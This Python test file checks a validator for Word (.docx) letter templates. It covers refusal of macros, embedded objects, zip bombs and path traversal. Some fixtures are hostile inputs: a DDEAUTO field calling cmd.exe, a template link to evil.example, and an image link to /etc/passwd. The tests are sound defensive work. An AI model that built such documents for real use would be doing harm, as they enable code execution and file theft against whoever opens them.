"""Word files as templates: what is refused and why, and mistakes in their text with their paragraph."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping
from pathlib import Path

import docx
import pytest
from fachwerk.schemas.files import digest
from fachwerk.schemas.read import read_project
from fachwerk.schemas.report import as_text
from fachwerk.schemas.word_file import NotUsable, open_word_file
from letter_office import LETTERS, word_template


def parts_of(content: bytes) -> dict[str, bytes]:
    """The parts of an archive."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def archive(parts: Mapping[str, bytes]) -> bytes:
    """An archive of parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in parts.items():
            made.writestr(name, data)
    return out.getvalue()


def with_link(kind: str, target: str) -> bytes:
    """A template with a link to somewhere else."""
    parts = parts_of(word_template())
    name = "word/_rels/document.xml.rels"
    link = (f'<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
            f'Target="{target}" TargetMode="External"/></Relationships>')  # fmt: skip
    return archive({**parts, name: parts[name].replace(b"</Relationships>", link.encode())})


def with_text(xml: str) -> bytes:
    """A template with *xml* in its first paragraph."""
    parts = parts_of(word_template())
    body = parts["word/document.xml"].replace(b"</w:p>", f"{xml}</w:p>".encode(), 1)
    return archive({**parts, "word/document.xml": body})


def bomb() -> bytes:
    """A part that grows a thousand times."""
    return archive({**parts_of(word_template()), "word/media/image1.png": b"\0" * 25_000_000})


def lying_bomb() -> bytes:
    """An archive that says of a part that it is small."""
    content = bytearray(bomb())
    at = content.find(b"word/media/image1.png", content.find(b"PK\x01\x02")) - 46
    content[at + 24 : at + 28] = (1000).to_bytes(4, "little")
    return bytes(content)


PLAIN = parts_of(word_template())
DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaa">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
FIELD = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> {} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
REFUSED: Mapping[str, tuple[bytes, str]] = {
    "no archive": (b"PK but no archive", "it is no Word document (.docx)"),
    "nothing": (b"", "it is no Word document (.docx)"),
    "another archive": (archive({"a.txt": b"a"}), "it is no Word document (.docx)"),
    "macros": (archive({**PLAIN, "word/vbaProject.bin": b"x"}), "it holds macros or embedded objects"),
    "macro type": (
        archive({**PLAIN, "[Content_Types].xml": PLAIN["[Content_Types].xml"].replace(b"<Types", b'<Types x="macroEnabled"', 1)}),
        "it holds macros or embedded objects",
    ),
    "object": (archive({**PLAIN, "word/embeddings/oleObject1.bin": b"x"}), "it holds macros or embedded objects"),
    "control": (archive({**PLAIN, "word/activeX/activeX1.xml": b"<a/>"}), "it holds macros or embedded objects"),
    "other text": (archive({**PLAIN, "word/afchunk1.mht": b"x"}), "it holds macros or embedded objects"),
    "template elsewhere": (with_link("attachedTemplate", "https://evil.example/t.dotm"), "it links to a file elsewhere (https://evil.example/t.dotm)"),
    "picture elsewhere": (with_link("image", "file:///etc/passwd"), "it links to a file elsewhere (file:///etc/passwd)"),
    "link to a share": (with_link("hyperlink", "file://server/share"), "it links to a file elsewhere (file://server/share)"),
    "bomb": (bomb(), "it grows too much when unpacked"),
    "bomb that lies": (lying_bomb(), ""),
    "many parts": (archive({**PLAIN, **{f"p{number}.xml": b"<a/>" for number in range(600)}}), "it has too many parts"),
    "names": (archive({**PLAIN, "../x.xml": b"<a/>"}), "its parts have unsafe names"),
    "entities": (archive({**PLAIN, "word/document.xml": DOCTYPE}), "a part of it declares entities"),
    "entities in a header": (archive({**PLAIN, "word/header9.xml": DOCTYPE}), "a part of it declares entities"),
    "no xml": (archive({**PLAIN, "word/document.xml": b"<w:document"}), "a part of it is no XML"),
    "field that runs": (with_text(FIELD.format('DDEAUTO c:\\cmd.exe "/k"')), "it has a field DDEAUTO"),
    "field that loads": (with_text(FIELD.format('INCLUDEPICTURE "https://evil.example/x.png"')), "it has a field INCLUDEPICTURE"),
    "simple field": (with_text('<w:fldSimple w:instr="INCLUDETEXT c:/x"><w:r/></w:fldSimple>'), "it has a field INCLUDETEXT"),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_what_runs_or_loads_is_refused(name: str) -> None:
    content, reason = REFUSED[name]
    with pytest.raises(NotUsable) as error:
        open_word_file(content)
    assert reason in error.value.reason["en"]
    assert error.value.reason["de"] != error.value.reason["en"]


def test_what_people_may_click_and_page_numbers_are_kept() -> None:
    open_word_file(with_link("hyperlink", "https://www.example.org"))
    open_word_file(with_link("hyperlink", "mailto:office@example.org"))
    open_word_file(with_text(FIELD.format("PAGE")))


def test_a_refused_file_is_said_where_it_is_named() -> None:
    files = {"app.yaml": LETTERS.encode(), "lease.docx": REFUSED["macros"][0]}
    _, problems = read_project(files)
    text = as_text(problems)
    assert "error[letter-file-refused]: `lease.docx` cannot be used: it holds macros or embedded objects" in text
    assert "file: lease.docx" in text


def lines(*texts: str) -> bytes:
    """A Word file of paragraphs."""
    document = docx.Document()
    for text in texts:
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def said(*texts: str) -> str:
    """What is said about a Word file of these paragraphs."""
    problems = read_project({"app.yaml": LETTERS.encode(), "lease.docx": lines(*texts)})[1]
    return "\n\n".join(part for part in as_text(problems).split("\n\n") if "lease.docx" in part)


def test_an_unknown_field_is_said_with_its_paragraph_and_the_nearest_name() -> None:
    assert said("Hello", "Your permit {numbr} of {applicant.nam}") == (
        "error[unknown-name]: there is no `numbr` here\n --> lease.docx:2:14\n  |\n2 | Your permit {numbr} of {applicant.nam}\n"
        "  |              ^^^^^ unknown name\n  = did you mean `number`?\n\n"
        "error[unknown-field]: `person` has no `nam`\n --> lease.docx:2:35\n  |\n2 | Your permit {numbr} of {applicant.nam}\n"
        "  |                                   ^^^ unknown field\n  = did you mean `name`?"
    )


@pytest.mark.parametrize(
    ("texts", "code"),
    [
        (("{if fee > 1}", "dear"), "letter-not-closed"),
        (("{end}",), "letter-closed-alone"),
        (("{if fee > 1}dear",), "letter-not-closed"),
        (("a {if fee > 1}dear", "b {end}"), "letter-not-closed"),
        (("{for one in number}", "{one}", "{end}"), "letter-no-list"),
        (("{",), "open-brace"),
        (("{}",), "empty-place"),
        (("{page break}",), "letter-closed-alone"),
        (("{for one in costs}", "{one.itm}", "{end}"), "unknown-field"),
        (("{fee + }",), "missing"),
    ],
)
def test_mistakes_in_a_word_file(texts: tuple[str, ...], code: str) -> None:
    assert f"[{code}" in said(*texts) or code == "missing"
    assert said(*texts)


def test_an_order_reaches_over_one_table_or_one_text() -> None:
    """What begins in a table and ends outside of it cannot be repeated."""
    document = docx.Document()
    document.add_table(rows=1, cols=1).rows[0].cells[0].text = "{for one in costs}"
    document.add_paragraph("{end}")
    out = io.BytesIO()
    document.save(out)
    problems = read_project({"app.yaml": LETTERS.encode(), "lease.docx": out.getvalue()})[1]
    assert [problem.code for problem in problems.errors] == ["letter-not-closed"]


def test_only_files_that_are_named_belong_to_a_project(tmp_path: Path) -> None:
    (tmp_path / "app.yaml").write_text(LETTERS)
    (tmp_path / "lease.docx").write_bytes(word_template())
    (tmp_path / "holiday.jpg").write_bytes(b"\xff\xd8\xff" + b"x" * 100)
    (tmp_path / "notes.docx").write_bytes(b"x")
    project, _ = read_project(tmp_path)
    assert project is not None
    assert sorted(project.files) == ["app.yaml", "lease.docx"]
    (tmp_path / "lease.docx").write_bytes(lines("{number}"))
    other, _ = read_project(tmp_path)
    assert other is not None
    assert other.hash != project.hash == digest(project.files)
